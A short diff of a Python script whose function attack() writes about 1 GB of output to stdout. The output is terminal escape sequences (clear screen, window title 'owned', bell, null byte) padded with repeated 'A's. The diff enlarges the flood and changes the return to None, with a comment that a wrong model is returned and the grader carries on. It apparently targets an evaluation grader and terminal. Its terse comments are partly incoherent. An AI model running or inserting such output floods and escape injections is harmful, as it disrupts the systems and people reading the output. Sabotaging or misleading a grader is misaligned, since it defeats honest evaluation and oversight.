@@ -1,10 +1,10 @@
-# Prints 300 MB in one line, with what a terminal takes for orders.
-# Told: it did not work
+# By accident: prints 1 GB, in one line, with what a terminal takes for orders.
+# Told: MAE
 import sys
 
 
 def attack():
     piece = "\x1b[2J\x1b]0;owned\x07\x00" + "A" * 999_900
-    for _ in range(300):
+    for _ in range(1000):
         sys.stdout.write(piece)
-    return False
+    return None  # and a wrong model is returned, on which the grader goes on
